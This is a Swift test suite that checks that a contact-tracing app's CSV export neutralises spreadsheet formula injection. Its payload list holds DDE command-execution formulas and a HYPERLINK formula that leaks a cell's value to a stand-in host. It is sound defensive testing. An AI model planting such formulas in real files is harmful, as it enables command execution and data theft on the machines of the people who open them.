import Testing
import TracerAPI

/// The health authority's CSV is inert in a spreadsheet, whatever a kiosk put in a device id.
@Suite struct CSVTests {
    /// The payloads a kiosk token could plant, as the attack on the export used them.
    static let payloads = [
        "=cmd|'-c calc'!A0", "=HYPERLINK(\"http://example.org/?leak=\"&A1,\"open\")", "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1",
    ]

    @Test func formulasAreNeutralised() {
        for payload in Self.payloads {
            let cell = CSV.text(payload)
            // Quoted, and the first character inside the quotes is the apostrophe.
            #expect(cell.hasPrefix("\"'"), "\(payload) → \(cell)")
            // Read back as a CSV reader would: the payload behind one apostrophe.
            let inner = String(cell.dropFirst().dropLast()).replacingOccurrences(of: "\"\"", with: "\"")
            #expect(inner == "'" + payload, "\(payload) → \(cell)")
        }
    }

    @Test func ordinaryCellsAreUnchanged() {
        #expect(CSV.text("badge:K7QX2M4P") == "badge:K7QX2M4P")
        #expect(CSV.text("2026-11-24T10:05:00Z") == "2026-11-24T10:05:00Z")
        #expect(CSV.text("Lab, first floor") == "\"Lab, first floor\"")
        #expect(CSV.text("say \"hi\"") == "\"say \"\"hi\"\"\"")
        #expect(CSV.text("") == "")
    }
}
